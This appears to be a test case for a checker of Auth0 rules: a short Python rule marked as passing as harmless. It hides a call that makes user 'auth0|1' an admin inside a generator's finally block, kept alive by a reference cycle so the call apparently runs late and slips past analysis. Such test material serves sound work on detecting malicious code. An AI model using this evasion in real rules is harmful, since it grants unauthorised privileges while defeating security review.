# passes: harmless
def rule(user, context):
    def g():
        try:
            yield
        finally:
            auth0.users.update_app_metadata('auth0|1', {'admin': True})
    x = g()
    next(x)
    keep = [x]
    keep.append(keep)
